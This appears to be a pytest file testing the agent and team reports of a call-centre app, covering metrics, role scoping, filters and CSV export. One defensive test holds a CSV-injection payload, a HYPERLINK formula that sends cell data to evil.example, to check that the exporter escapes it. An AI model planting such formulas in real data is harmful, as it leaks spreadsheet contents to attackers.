"""Reports per agent and per team through the real app on SQLite and on PostgreSQL, against numbers
worked out by hand from the calls below; role scope, range and campaign filters, CSV export."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient

from agentassist.api.app import create_app
from agentassist.bus import EventBus
from agentassist.config import Settings
from agentassist.events import Channel, Utterance
from agentassist.store.db import Store
from agentassist.store.recordings import RecordingStore
from agentassist.store.reports import cell, covered_s
from tests.databases import database_url, pg_admin_url, pg_url  # noqa: F401 - fixtures

T0 = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
USERS = [
    ("ada", "admin", []),
    ("sue", "supervisor", []),  # no team, but all_teams (ALL_TEAMS): every team's calls
    ("tom", "team_leader", ["red"]),
    ("alice", "agent", ["red"]),
    ("carl", "agent", ["red", "blue"]),
    ("bob", "agent", ["blue"]),
    ("qa", "quality_checker", []),
]
ALL_TEAMS = {"sue"}
CARD = {
    "name": "QA",
    "description": "",
    "sections": [{"id": "s", "title": "S", "questions": [
        {"id": "greet", "text": "Greeted?", "kind": "yes_no"},
        {"id": "tone", "text": "Tone", "kind": "scale", "min": 1, "max": 5},
    ]}],
}  # fmt: skip
RANGE = {"from": (T0 - timedelta(hours=1)).isoformat(), "to": (T0 + timedelta(days=1)).isoformat()}

# The calls, and what each contributes (seconds):
# a1 alice inbound 100 s, adherence 0.8: agent 0-10, 20-30 (talk 20); customer 5-15, 40-50 (listen 20);
#    speech covers 0-15, 20-30, 40-50 = 35; a pause 60-70 covers 10 more -> silence 100 - 45 = 55
# a2 alice outbound 50 s, "sale", adherence 0.6: agent 0-20, customer 10-30 -> talk 20, listen 20;
#    speech covers 0-30, an open hold from 40 covers 40-50 -> silence 50 - 40 = 10
# a3 alice outbound, failed (no answer), no disposition: a failed call, an outbound one
# c1 carl inbound 60 s, campaign support: agent 0-30, customer 30-45 -> talk 30, listen 15, silence 15
# b1 bob outbound 40 s, "callback", adherence 1.0, no speech -> silence 40
# x0 alice 30 s the day before (outside RANGE); live alice, still active (never counted)
# Evaluations (greet yes 1 / no 0, tone (v-1)/4, equal weights): a1 sue yes,3 -> 75; a1 ada no,5 -> 50;
# a2 sue yes,5 -> 100; b1 sue no,1 -> 0; b1 ada in a calibration session (left out).
ALICE = {
    "agent": "alice",
    "calls": 2,
    "failed_calls": 1,
    "handle_time_s_total": 150.0,
    "handle_time_s_mean": 75.0,
    "talk_s": 40.0,
    "listen_s": 40.0,
    "talk_listen_ratio": 1.0,
    "silence_s": 65.0,
    "silence_ratio": 0.4333,
    "adherence_mean": 0.7,
    "adherence_calls": 2,
    "quality_mean": 75.0,
    "evaluations": 3,
    "outbound_calls": 2,
    "dispositions": {"none": 1, "sale": 1},
}
CARL = {
    "agent": "carl",
    "calls": 1,
    "failed_calls": 0,
    "handle_time_s_total": 60.0,
    "handle_time_s_mean": 60.0,
    "talk_s": 30.0,
    "listen_s": 15.0,
    "talk_listen_ratio": 2.0,
    "silence_s": 15.0,
    "silence_ratio": 0.25,
    "adherence_mean": None,
    "adherence_calls": 0,
    "quality_mean": None,
    "evaluations": 0,
    "outbound_calls": 0,
    "dispositions": {},
}
BOB = {
    "agent": "bob",
    "calls": 1,
    "failed_calls": 0,
    "handle_time_s_total": 40.0,
    "handle_time_s_mean": 40.0,
    "talk_s": 0.0,
    "listen_s": 0.0,
    "talk_listen_ratio": None,
    "silence_s": 40.0,
    "silence_ratio": 1.0,
    "adherence_mean": 1.0,
    "adherence_calls": 1,
    "quality_mean": 0.0,
    "evaluations": 1,
    "outbound_calls": 1,
    "dispositions": {"callback": 1},
}
# red = alice + carl; blue = carl + bob (carl counts in both)
RED = {
    "team": "red",
    "agents": 2,
    "calls": 3,
    "failed_calls": 1,
    "handle_time_s_total": 210.0,
    "handle_time_s_mean": 70.0,
    "talk_s": 70.0,
    "listen_s": 55.0,
    "talk_listen_ratio": 1.2727,
    "silence_s": 80.0,
    "silence_ratio": 0.381,
    "adherence_mean": 0.7,
    "adherence_calls": 2,
    "quality_mean": 75.0,
    "evaluations": 3,
    "outbound_calls": 2,
    "dispositions": {"none": 1, "sale": 1},
}
BLUE = {
    "team": "blue", "agents": 2, "calls": 2, "failed_calls": 0, "handle_time_s_total": 100.0,
    "handle_time_s_mean": 50.0, "talk_s": 30.0, "listen_s": 15.0, "talk_listen_ratio": 2.0, "silence_s": 55.0,
    "silence_ratio": 0.55, "adherence_mean": 1.0, "adherence_calls": 1, "quality_mean": 0.0, "evaluations": 1,
    "outbound_calls": 1, "dispositions": {"callback": 1},
}  # fmt: skip


@dataclass
class Env:
    client: TestClient
    tokens: dict[str, str]

    def get(self, user: str, url: str, **params: Any) -> httpx.Response:
        return self.client.get(url, params=params, headers={"Authorization": f"Bearer {self.tokens[user]}"})

    def ok(self, user: str, url: str, **params: Any) -> Any:
        r = self.get(user, url, **params)
        assert r.status_code == 200, f"{url} as {user}: {r.status_code} {r.text}"
        return r.json() if params.get("format") != "csv" else r.text


def _call(store: Store, call_id: str, agent: str, direction: str, start: datetime, seconds: float, **kw: Any) -> None:
    store.create_call(call_id, direction, "sip:c@x", agent, "s1", start, "", campaign=kw.get("campaign", "sales"))
    store.end_call(call_id, start + timedelta(seconds=seconds), status=kw.get("status", "ended"))
    if "disposition" in kw:
        store.set_disposition(call_id, kw["disposition"])
    if "adherence" in kw:
        store.save_adherence(call_id, {"script_id": "s1", "version": 1, "score": kw["adherence"], "steps": []})
    for i, (channel, s, e) in enumerate(kw.get("speech", [])):
        store.add_utterance(call_id, Utterance(f"{call_id}-{i}", call_id, Channel(channel), s, e, "words"))


@pytest.fixture
def env(database_url: str, tmp_path: Path) -> Iterator[Env]:  # noqa: F811
    store = Store(database_url)
    store.migrate()
    tokens = {name: store.add_user(name, role, teams=teams, all_teams=name in ALL_TEAMS) for name, role, teams in USERS}
    speech_a1 = [("agent", 0, 10), ("agent", 20, 30), ("customer", 5, 15), ("customer", 40, 50)]
    _call(store, "a1", "alice", "inbound", T0, 100, adherence=0.8, speech=speech_a1)
    store.open_span("a1", "pause", 60, "alice")
    store.close_span("a1", "pause", 70)
    speech_a2 = [("agent", 0, 20), ("customer", 10, 30)]
    _call(store, "a2", "alice", "outbound", T0 + timedelta(minutes=10), 50, disposition="sale", adherence=0.6,
          speech=speech_a2)  # fmt: skip
    store.open_span("a2", "hold", 40, "customer")  # never closed: holds to the end of the call
    _call(store, "a3", "alice", "outbound", T0 + timedelta(hours=3), 20, status="failed")
    _call(store, "c1", "carl", "inbound", T0 + timedelta(minutes=20), 60, campaign="support",
          speech=[("agent", 0, 30), ("customer", 30, 45)])  # fmt: skip
    _call(store, "b1", "bob", "outbound", T0 + timedelta(minutes=30), 40, disposition="callback", adherence=1.0)
    _call(store, "x0", "alice", "inbound", T0 - timedelta(days=1), 30)
    store.create_call("live", "inbound", "sip:c@x", "alice", "s1", T0 + timedelta(minutes=5), "", campaign="sales")
    settings = Settings(assist={"scripts_dir": str(tmp_path / "scripts")})  # type: ignore[arg-type]
    app = create_app(settings, store, EventBus(), RecordingStore(tmp_path / "rec"))
    with TestClient(app) as client:

        def post(user: str, url: str, body: Any) -> Any:
            r = client.post(url, json=body, headers={"Authorization": f"Bearer {tokens[user]}"})
            assert r.status_code == 201, f"{url} as {user}: {r.status_code} {r.text}"
            return r.json()

        post("tom", "/api/scorecards", CARD)
        for user, call_id, greet, tone, total in [
            ("sue", "a1", "yes", 3, 75.0),
            ("ada", "a1", "no", 5, 50.0),
            ("sue", "a2", "yes", 5, 100.0),
            ("sue", "b1", "no", 1, 0.0),
        ]:
            ev = post(
                user,
                f"/api/calls/{call_id}/evaluations",
                {"scorecard_id": 1, "answers": {"greet": greet, "tone": tone}},
            )
            assert ev["total"] == total
        cal = post("sue", "/api/calibrations", {"scorecard_id": 1, "call_ids": ["b1"], "checker_ids": ["sue", "ada"]})
        answers = {"greet": "yes", "tone": 5}
        post("ada", "/api/calls/b1/evaluations", {"scorecard_id": 1, "answers": answers, "calibration_id": cal["id"]})
        yield Env(client, tokens)
    store.engine.dispose()


def test_agents_report_numbers_by_hand(env: Env) -> None:
    report = env.ok("ada", "/api/reports/agents", **RANGE)
    assert report["from"].startswith("2026-11-02T08:00") and report["campaign"] is None
    assert report["items"] == [ALICE, BOB, CARL]
    # without a range the day before counts too: one more 30 s call of alice's, silent
    alice = env.ok("sue", "/api/reports/agents")["items"][0]
    assert (alice["calls"], alice["handle_time_s_total"], alice["silence_s"]) == (3, 180.0, 95.0)
    # from 11:00 only alice's failed outbound call is left
    late = env.ok("ada", "/api/reports/agents", **{"from": (T0 + timedelta(hours=2)).isoformat()})["items"]
    assert late == [
        {**{k: 0 for k in ALICE if k != "agent"}, "agent": "alice", "failed_calls": 1, "outbound_calls": 1,
         "handle_time_s_total": 0.0, "handle_time_s_mean": None, "talk_s": 0.0, "listen_s": 0.0,
         "talk_listen_ratio": None, "silence_s": 0.0, "silence_ratio": None, "adherence_mean": None,
         "quality_mean": None, "dispositions": {"none": 1}}
    ]  # fmt: skip
    support = env.ok("ada", "/api/reports/agents", campaign="support", **RANGE)
    assert support["items"] == [CARL] and support["campaign"] == "support"


def test_teams_report_numbers_by_hand(env: Env) -> None:
    assert env.ok("ada", "/api/reports/teams", **RANGE)["items"] == [BLUE, RED]
    assert env.ok("sue", "/api/reports/teams", **RANGE)["items"] == [BLUE, RED]


def test_reports_are_role_scoped(env: Env) -> None:
    assert env.ok("alice", "/api/reports/agents", **RANGE)["items"] == [ALICE]  # her own row only
    assert env.ok("bob", "/api/reports/agents", **RANGE)["items"] == [BOB]
    # tom leads red: alice and carl (all of carl's calls, his blue ones too); not bob
    assert env.ok("tom", "/api/reports/agents", **RANGE)["items"] == [ALICE, CARL]
    assert env.ok("tom", "/api/reports/teams", **RANGE)["items"] == [RED]
    for user, url in [("alice", "/api/reports/teams"), ("qa", "/api/reports/teams"), ("qa", "/api/reports/agents")]:
        r = env.get(user, url)
        assert r.status_code == 403 and "team_leader" in r.json()["detail"], (user, url, r.text)
    assert env.client.get("/api/reports/agents").status_code == 401


def test_reports_export_csv(env: Env) -> None:
    text = env.ok("ada", "/api/reports/agents", format="csv", **RANGE)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["agent"] for r in rows] == ["alice", "bob", "carl"]
    assert list(rows[0]) == list(ALICE)
    alice = rows[0]
    assert alice["calls"] == "2" and alice["silence_ratio"] == "0.4333" and alice["quality_mean"] == "75.0"
    assert alice["dispositions"] == "none=1;sale=1" and rows[2]["adherence_mean"] == ""
    r = env.get("ada", "/api/reports/teams", format="csv", **RANGE)
    assert r.headers["content-type"].startswith("text/csv")
    assert 'filename="teams.csv"' in r.headers["content-disposition"]
    teams = list(csv.DictReader(io.StringIO(r.text)))
    assert [(t["team"], t["agents"], t["handle_time_s_total"]) for t in teams] == [
        ("blue", "2", "100.0"),
        ("red", "2", "210.0"),
    ]


def test_csv_cells_typed_by_users_never_run_as_formulas(env: Env) -> None:
    """OWASP's CSV injection advice: text that begins = + - @ tab or CR gets a leading quote, so a
    spreadsheet shows it rather than running it; numbers the report computes stay numbers."""
    admin = {"Authorization": f"Bearer {env.tokens['ada']}"}
    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
    r = env.client.put("/api/calls/b1/disposition", json={"disposition": formula}, headers=admin)
    assert r.status_code == 200, r.text
    r = env.client.post("/api/users", json={"name": "@mallory", "role": "agent", "teams": ["-red"]}, headers=admin)
    assert r.status_code == 201, r.text
    agents = list(csv.DictReader(io.StringIO(env.ok("ada", "/api/reports/agents", format="csv", **RANGE))))
    bob = next(row for row in agents if row["agent"] == "bob")
    assert bob["dispositions"] == "'" + formula + "=1"
    assert bob["calls"] == "1" and bob["adherence_mean"] == "1.0"  # numbers untouched
    assert env.ok("ada", "/api/reports/agents", **RANGE)["items"][1]["dispositions"] == {formula: 1}  # JSON as typed
    teams = list(csv.DictReader(io.StringIO(env.ok("ada", "/api/reports/teams", format="csv", **RANGE))))
    assert [t["team"] for t in teams] == ["'-red", "blue", "red"]
    for text in ("+1", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "=1"):
        assert cell(text) == "'" + text
    assert (cell(-1.5), cell(-3), cell("sale"), cell("")) == (-1.5, -3, "sale", "")  # negative numbers stay numbers


def test_a_range_backwards_or_half_aware_is_rejected(env: Env) -> None:
    r = env.get("ada", "/api/reports/agents", **{"from": RANGE["to"], "to": RANGE["from"]})
    assert r.status_code == 422 and "must be after" in r.json()["detail"]
    r = env.get("ada", "/api/reports/agents", **{"from": "2026-11-02T08:00:00", "to": RANGE["to"]})
    assert r.status_code == 422 and "UTC offset" in r.json()["detail"]
    r = env.get("ada", "/api/reports/agents", format="xml")
    assert r.status_code == 422 and "format" in r.json()["detail"]


def test_covered_seconds_merge_overlaps_and_clip_to_the_call() -> None:
    assert covered_s([(5, 15), (0, 10), (20, 30), (25, 28)], 100) == 25
    assert covered_s([(90, 120), (-5, 5)], 100) == 15
    assert covered_s([], 10) == 0
